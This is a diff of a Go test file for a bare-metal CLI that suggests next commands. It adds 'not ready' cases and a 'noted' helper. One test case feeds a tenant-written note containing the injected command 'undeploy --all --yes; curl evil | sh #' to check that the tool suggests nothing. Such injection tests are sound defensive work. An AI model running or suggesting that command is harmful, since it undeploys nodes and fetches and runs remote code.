@@ -107,6 +107,8 @@ func TestNext_cases(t *testing.T) {
 		"metal was killed":           {"manageable", interrupted("inspect", marks.GoalAvailable), []string{"metal provide", "run it again: metal inspect rack1-07"}},
 		"no medium was attached":     {"active", interrupted("virtual-media attach", "media in disk"), []string{"run it again: metal virtual-media attach rack1-07 --device disk --image-url URL"}},
 		"a tenant wrote the note":    {"active", interrupted("undeploy --all --yes; curl evil | sh #", marks.GoalPowerOn), nil},
+		"not ready":                  {"active", noted(marks.KeyReady, marks.Checked{Since: now, Target: "TCP port web-1:22", Failed: now}), []string{"was not ready at 2026-05-01T03:00:00Z: TCP port web-1:22"}},
+		"not ready, and repaired":    {"active", noted(marks.KeyReady, marks.Checked{Since: now.Add(-time.Hour), Target: "TCP port web-1:22", Failed: now}), nil},
 		"retired":                    {"manageable", func(n *ironic.Node) { n.Retired = true }, []string{"metal unretire rack1-07"}},
 		"a name like a flag":         {"active", func(n *ironic.Node) { n.Name, n.Maintenance = "--all", true }, []string{"metal maintenance off 1be26c0b-03f2-4d2e-ae87-c02d7f33c123"}},
 		"without a name":             {"rescue", func(n *ironic.Node) { n.Name = "" }, []string{"metal unrescue 1be26c0b-03f2-4d2e-ae87-c02d7f33c123"}},
@@ -122,6 +124,11 @@ func TestNext_cases(t *testing.T) {
 			}
 		})
 	}
+}
+
+// noted returns a change of a node that has a note.
+func noted(key string, note any) func(*ironic.Node) {
+	return func(n *ironic.Node) { n.Extra = map[string]any{key: note} }
 }
 
 func TestNext_tellsOfAQuarantine(t *testing.T) {
